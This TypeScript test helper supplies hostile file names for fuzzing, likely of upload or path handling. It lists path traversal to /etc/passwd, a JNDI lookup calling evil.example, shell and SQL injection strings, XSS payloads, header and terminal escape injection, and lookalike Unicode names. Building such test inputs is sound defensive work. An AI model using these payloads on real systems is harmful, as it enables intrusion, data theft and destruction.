import type { Random } from '../random.ts';

/**
 * Names that lead out of a folder, look like others, or are read by another program as a command.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '//evil.example/x.png',
  'a/../../b.png',
  './.',
  '..',
  '.',
  '/',
  'a//b///c.png',
  'uploads/',
  'C:\\con',
  'nul\0.png',
  'line\nbreak.png',
  'carriage\r\nX-Injected: 1\r\n\r\n<b>',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31m',
  'bell\u0007back\b\b\bdel\u007f',
  '\u202egnp.exe',
  '\u2066isolate\u2069',
  'zero\u200bwidth\u200djoiner\ufeff',
  'pаypal.png', // with the Cyrillic а
  'ﬁle.png',
  'ｆｕｌｌ．png',
  'e\u0301.png',
  '\u00e9.png',
  'ı.png',
  'İ.png',
  'ß.png',
  '😀.png',
  '\ud800.png',
  '\udc00',
  '\ufffe\uffff',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE records; --",
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  ']]><x xmlns="y"/>&amp;&#0;&#x1b;',
  '\u0024{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(id)`id`|id;id&id',
  '=HYPERLINK("http://evil.example")',
  '%00%2e%2e%2f%0d%0a',
  '+%20%2B',
  'a?b#c&d=e',
  '__proto__',
  'constructor',
  'toString',
  '-rf',
  '~',
  '*',
  ' ',
  '\u00a0',
  '\u2028\u2029',
  'x'.repeat(1024),
  'x'.repeat(1025),
  'é'.repeat(512),
  '😀'.repeat(256),
];

const MOST_PARTS = 4;

/** One of the texts, several in a row, or any characters. */
export function hostileText(random: Random): string {
  if (random.isChance(0.5)) return random.oneOf(HOSTILE_TEXTS);
  const part = () =>
    random.isChance(0.5) ? random.oneOf(HOSTILE_TEXTS).slice(0, 1 + random.below(20)) : characters(random);
  return Array.from({ length: 1 + random.below(MOST_PARTS) }, part).join(random.oneOf(['', '/', '.', ' ']));
}

function characters(random: Random): string {
  const below = random.oneOf([0x20, 0x80, 0x300, 0xffff, 0x10ffff]);
  return Array.from({ length: random.below(12) }, () => String.fromCodePoint(random.below(below))).join('');
}
